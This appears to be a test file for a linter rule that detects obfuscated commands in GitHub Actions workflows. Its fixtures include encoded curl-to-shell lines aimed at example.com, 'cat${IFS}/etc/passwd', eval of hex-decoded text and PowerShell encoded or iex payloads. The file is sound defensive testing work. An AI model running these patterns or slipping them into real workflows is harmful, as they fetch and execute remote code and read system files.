import { testRule } from '../testing/rule-tester.js';
import rule from './obfuscation.js';

testRule(rule, {
  valid: [
    {
      name: 'decoding into a file, IFS in read loops, plain uses paths',
      files: `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: github/codeql-action/init@v3
      - run: |
          echo "$KEYSTORE_B64" | base64 -d > release.keystore
          while IFS= read -r line; do echo "$line"; done < list.txt
          IFS=',' read -ra parts <<< "$CSV"
          printf '%s\\n' "\${parts[@]}" | sort
          OLD_IFS="$IFS"
          echo "\${{ github.sha }}" | cut -c1-7
          node -e "require('fs').writeFileSync('out.json', Buffer.from(process.env.DATA_B64, 'base64'))"
          echo "key-\${{ hashFiles('**/package-lock.json') }}"
`,
    },
    {
      name: 'a download piped to a shell is remote-script-execution, not obfuscation',
      files: `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -fsSL https://example.com/install.sh.b64 | base64 -d | bash
`,
    },
    {
      name: 'constant expressions outside scripts, and expressions that read contexts',
      files: `on: push
jobs:
  a:
    runs-on: \${{ fromJSON('["ubuntu-latest"]')[0] }}
    if: \${{ true }}
    steps:
      - run: echo "\${{ format('{0}-{1}', github.ref_name, github.run_number) }}"
      - uses: actions/setup-node@v4
        with:
          node-version: \${{ fromJSON(steps.versions.outputs.node) }}
        env: \${{ fromJSON(steps.versions.outputs.env) }}
`,
    },
  ],
  invalid: [
    {
      name: 'base64 decoded and piped to a shell, eval of hex-decoded text, python exec of b64decode',
      files: `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "Y3VybCAtcyBodHRwczovL2V4YW1wbGUuY29tIHwgc2g=" | base64 -d | sh
          eval "$(echo 6375726c202d73 | xxd -r -p)"
          python3 -c "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"
`,
      errors: [
        { messageId: 'decodeRun', line: 7, column: 11, severity: 'medium', message: 'base64-decoded' },
        { messageId: 'decodeRun', line: 8, column: 11, severity: 'medium', message: 'hex-decoded' },
        { messageId: 'decodeRun', line: 9, column: 11, severity: 'medium' },
      ],
    },
    {
      name: 'escape-encoded programs, IFS tricks and an escaped command name; high where anyone can start a privileged run',
      files: `on: pull_request_target
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          bash -c "$(printf '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73')"
          cat\${IFS}/etc/passwd
          $'\\x77\\x68\\x6f\\x61\\x6d\\x69'
`,
      errors: [
        { messageId: 'decodeRun', line: 7, column: 11, severity: 'high', message: 'escape-encoded' },
        { messageId: 'ifs', line: 8, column: 11, endColumn: 31, severity: 'high' },
        { messageId: 'escapedCommand', line: 9, column: 11, severity: 'high' },
      ],
    },
    {
      name: 'PowerShell -EncodedCommand and iex of FromBase64String',
      files: `on: push
jobs:
  a:
    runs-on: windows-latest
    steps:
      - run: |
          powershell -NoProfile -enc SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA==
          iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:PAYLOAD)))
`,
      errors: [
        { messageId: 'encodedCommand', line: 7, column: 11, severity: 'medium' },
        { messageId: 'decodeRun', line: 8, column: 11, severity: 'medium' },
      ],
    },
    {
      name: 'uses paths with empty, . and .. segments',
      files: `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout/@8e8c483db84b4bee98b60c0593521ed34d9990e8
      - uses: github/codeql-action/./init@v3
      - uses: actions/cache/../../save@v4
`,
      errors: [
        { messageId: 'usesPath', line: 6, column: 15, severity: 'low', message: 'resolves to `actions/checkout`' },
        { messageId: 'usesPath', line: 7, column: 15, severity: 'low', message: 'resolves to `github/codeql-action/init`' },
        { messageId: 'usesPath', line: 8, column: 15, severity: 'low', message: 'a path outside actions/cache' },
      ],
    },
    {
      name: 'a whole with: written as one expression',
      files: `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - id: setup
        run: echo 'options={"persist-credentials":false}' >> "$GITHUB_OUTPUT"
      - uses: actions/checkout@v4
        with: \${{ fromJson(steps.setup.outputs.options) }}
`,
      errors: [
        {
          messageId: 'dynamicInputs',
          line: 9,
          column: 15,
          endColumn: 59,
          severity: 'low',
          message: 'every input of `actions/checkout` comes from the one expression `${{ fromJson(steps.setup.outputs.options) }}`',
        },
      ],
    },
    {
      name: 'expressions in a script that reduce to constants',
      files: `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          \${{ 'cu' }}rl -s https://example.com
          echo \${{ format('{0}', 'abc') }}
          echo \${{ format('{0}, {1}', github.event.number, format('{0}', 'abc')) }}
`,
      errors: [
        { messageId: 'constant', line: 7, column: 11, endColumn: 22, severity: 'low' },
        { messageId: 'constant', line: 8, column: 16, severity: 'low' },
        { messageId: 'constant', line: 9, column: 60, severity: 'low', message: "format('{0}', 'abc')" },
      ],
    },
  ],
});
